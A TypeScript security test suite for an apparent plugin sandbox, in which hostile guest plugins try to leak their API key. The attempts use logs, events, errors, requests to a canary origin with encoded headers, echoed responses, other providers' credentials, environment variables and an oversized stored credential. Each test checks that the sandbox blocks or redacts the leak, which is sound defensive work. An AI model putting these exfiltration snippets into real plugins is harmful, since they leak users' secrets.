import { type Attack, stoppedBy } from '../attack.ts'
import type { Stage } from '../stage.ts'

const event = (text: string) => `data: ${text}\n\n`

/** The names of models that the guest reported must hold none of these. */
async function reportWithout(stage: Stage, ...words: string[]): Promise<string[]> {
  const names = (await stage.models()).map(model => model.name)
  for (const name of names)
    for (const word of words) if (name.includes(word)) throw new Error(`it got ${word}: ${name}`)
  return names
}

export const secretAttacks: Attack[] = [
  {
    id: 'key-in-log',
    tries: 'print the key in its log, in pieces and backwards too',
    guest: `{ models: id => { const key = getCredential(id)
      log('info', key); log('error', key.slice(0, 20)); log('warn', [...key].reverse().join('')); return [] } }`,
    async run(stage) {
      await stage.models()
      const reversed = [...stage.key].reverse().join('')
      const lines = stage.log.map(line => line.message)
      if (lines.some(line => line.includes(reversed) || line.includes(stage.key.slice(0, 20))))
        throw new Error('the key is in the log')
      return `the guest holds a placeholder: its log says ${lines.find(line => line.startsWith('airlock_'))?.slice(0, 16)}...`
    },
  },
  {
    id: 'key-in-event',
    tries: 'tell the key as text, thinking and arguments of a call',
    guest: `{ framing: 'none', request: () => null, decode: (_, id) => { const key = getCredential(id)
      return [text(key), { tag: 'thinking', val: { text: key, signature: key } }, { tag: 'provider-content', val: JSON.stringify([...key]) }, stop] } }`,
    async run(stage) {
      const { events, error } = await stage.complete()
      if (error !== undefined) throw error
      if (JSON.stringify(events).includes([...stage.key].map(letter => `\\"${letter}\\"`).join(',')))
        throw new Error('the key is in an event')
      return 'the guest holds a placeholder'
    },
  },
  {
    id: 'key-in-error',
    tries: 'tell the key in an error, of a list of models and of a completion',
    guest: `{ models: id => { throw failure(getCredential(id)) },
      startCompletion: id => { throw { ...failure(getCredential(id)), code: getCredential(id) } } }`,
    async run(stage) {
      await stage.models().then(
        () => Promise.reject(new Error('it did not fail')),
        (error: unknown) => stoppedBy(error),
      )
      await stage.completionError()
      return 'the guest holds a placeholder'
    },
  },
  {
    id: 'key-to-other-origin',
    tries: "send the key to another granted origin, another provider's",
    providers: ['key-to-other-origin-2'],
    guest: `{ models: id => { const key = getCredential(id); const pair = btoa('user:' + key)
      return report(...[
        get(canary(id) + '/?key=' + key), get(canary(id) + '/?key=' + key.replace(/_/g, '%5f')),
        get(canary(id), [['authorization', 'Bearer ' + key]]), get(canary(id), [['x-key', key]]),
        get(canary(id), [['authorization', 'Basic ' + pair]]), get(canary(id), [['a', encodeURIComponent(key).replace('a', '%61')]]),
      ].map(request => outcome(() => fetch(request)))) } }`,
    async run(stage) {
      const names = (await stage.models()).map(model => model.name)
      for (const name of names) if (!name.startsWith('error ')) throw new Error(`it went through: ${name}`)
      return names[0]!.slice('error '.length)
    },
  },
  {
    id: 'key-in-body',
    tries: 'send the key in a body, which the service would give back',
    guest: `{ models: id => report(outcome(() => fetch(get(service(id), [['content-type', 'application/json']],
      bytes(JSON.stringify({ key: getCredential(id) })))))) }`,
    async run(stage) {
      stage.answers(request => ({ body: [request.body] }))
      const [name = ''] = await reportWithout(stage, stage.key)
      if (!name.includes('airlock_')) throw new Error(`something else came back: ${name}`)
      return 'a placeholder is not swapped in a body'
    },
  },
  {
    id: 'key-echoed',
    tries: 'have its service send the key back, in headers, bodies, errors and streams',
    guest: `{
      models: id => { const authorized = get(service(id), [['authorization', 'Bearer ' + getCredential(id)]])
        return report(outcome(() => fetch(authorized)), outcome(() => fetchFallible(authorized)), outcome(() => {
          const stream = fetchStream(authorized); let all = JSON.stringify(stream.headers())
          for (let chunk; (chunk = stream.nextChunk()) != null;) all += String.fromCharCode(...chunk)
          return all })) },
      request: id => get(service(id), [['authorization', 'Bearer ' + getCredential(id)]]),
      decode: frames => frames.map(frame => text(frame.val.data)),
      reject: response => failure(JSON.stringify(response.headers) + String.fromCharCode(...response.body)),
    }`,
    async run(stage) {
      for (const status of [200, 401]) {
        stage.answers(({ headers }) => {
          const value = headers.authorization ?? ''
          if (!value.includes(stage.key)) throw new Error('the service got no key')
          const cut = value.length - 12
          return {
            status,
            headers: { 'x-echo': value, 'content-type': 'text/event-stream' },
            body: [
              `data: ${value.slice(0, cut)}`,
              `${value.slice(cut)} ${encodeURIComponent(value)} ${JSON.stringify(value)}\n\n`,
            ],
          }
        })
        await reportWithout(stage, stage.key)
        await stage.complete()
      }
      return 'answers are redacted before the guest sees them'
    },
  },
  {
    id: 'other-credential',
    tries: "take, replace and remove another provider's credential",
    guest: `{ models: id => report(...['openai-compatible', 'hostile', 'openai-compatible:openai-compatible', '__proto__', 'constructor', '']
      .flatMap(name => [String(getCredential(name)), outcome(() => storeCredential(name, 'mine')), outcome(() => deleteCredential(name))])) }`,
    async run(stage) {
      const names = await reportWithout(stage, 'airlock_', 'function', 'object', 'ok ')
      return names.find(name => name.startsWith('error '))!.slice('error '.length)
    },
  },
  {
    id: 'environment',
    tries: 'read the environment',
    permissions: () => ({ env: ['AIRLOCK_SECRET'] }),
    guest: `{ models: () => report(...['AIRLOCK_SECRET', 'PATH', 'HOME', '__proto__', 'constructor', ''].map(name => String(getEnvVar(name))),
      typeof globalThis.process, typeof globalThis.require, typeof globalThis.Deno, typeof globalThis.std, typeof globalThis.os) }`,
    async run(stage) {
      const names = (await stage.models()).map(model => model.name)
      for (const name of names) if (name !== 'undefined' && name !== 'null') throw new Error(`it got ${name}`)
      return 'a variable is there where manifest and user name it, and nothing else'
    },
  },
  {
    id: 'poisoned-placeholder',
    tries: 'store its own placeholder, and a megabyte, as its credential',
    guest: `{ models: id => { const key = getCredential(id)
      return report(outcome(() => storeCredential(id, 'x'.repeat(1 << 20))), outcome(() => storeCredential(id, key)),
        outcome(() => fetch(get(service(id), [['authorization', getCredential(id)]])))) } }`,
    async run(stage) {
      stage.answers({ body: [event('fine')] })
      const [large = ''] = await reportWithout(stage, stage.key)
      if (!large.startsWith('error ')) throw new Error(`it stored a megabyte: ${large}`)
      return large.slice('error '.length)
    },
  },
]
